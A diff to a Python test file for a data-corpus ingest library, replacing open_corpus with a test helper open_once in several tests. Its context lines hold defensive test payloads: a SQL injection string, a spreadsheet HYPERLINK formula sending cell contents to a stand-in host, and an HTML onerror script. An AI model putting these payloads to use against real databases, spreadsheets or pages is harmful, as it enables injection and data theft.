@@ -17,7 +17,7 @@ from outcross.assets.corpus.audit.audit import audit
 from outcross.assets.corpus.corpus import Limits
 from outcross.assets.corpus.intake.reading import read_batch
 from outcross.assets.corpus.ledger.ledger import read_version
-from outcross.assets.corpus.open_corpus import OpenCorpus, open_corpus
+from outcross.assets.corpus.open_corpus import OpenCorpus
 from outcross.assets.corpus.quarantine.decisions import release
 from outcross.assets.export import FORMATS
 from outcross.assets.export.corpus import describe_version
@@ -26,6 +26,7 @@ from outcross.resources.schema import Column, Role, Schema
 from outcross.resources.sources.locate import SourceFile
 from outcross.resources.store import Store
 from outcross.resources.warehouse import query
+from tests.assets.corpus.opened_once import open_once
 from tests.assets.corpus.test_ingest import AT, ROWS, corpus_settings, quarantined, take
 
 SQL = 'x"; DROP VIEW ledger; --'
@@ -34,7 +35,7 @@ FORMULA, HTML = '=HYPERLINK("http://192.0.2.1/?"&A1)', "<img src=x onerror=alert
 
 @pytest.fixture
 def people(tmp_path: Path) -> OpenCorpus:
-    return open_corpus(corpus_settings(tmp_path, mode="observe"), Store(tmp_path / "data"), by="test", at=AT)
+    return open_once(corpus_settings(tmp_path, mode="observe"), Store(tmp_path / "data"), by="test", at=AT)
 
 
 def below(folder: Path) -> set[Path]:
@@ -98,7 +99,7 @@ def test_the_text_of_a_cell_stays_text(people: OpenCorpus, tmp_path: Path, text:
     ],
 )
 def test_a_file_beyond_a_limit_is_refused_with_the_limit(tmp_path: Path, limits: dict[str, int], reason: str) -> None:
-    people = open_corpus(corpus_settings(tmp_path, limits=limits), Store(tmp_path / "data"), by="test", at=AT)
+    people = open_once(corpus_settings(tmp_path, limits=limits), Store(tmp_path / "data"), by="test", at=AT)
     path = tmp_path / "batch.csv"
     ROWS[4_000:5_000].write_csv(path)
     found = take(people, path)
@@ -107,7 +108,7 @@ def test_a_file_beyond_a_limit_is_refused_with_the_limit(tmp_path: Path, limits:
 
 
 def test_a_file_that_unpacks_to_a_thousand_times_its_size_is_refused_before_unpacking(tmp_path: Path) -> None:
-    people = open_corpus(
+    people = open_once(
         corpus_settings(tmp_path, limits={"text_bytes": 2**20, "unpacked_bytes": 2**20}),
         Store(tmp_path / "data"),
         by="test",
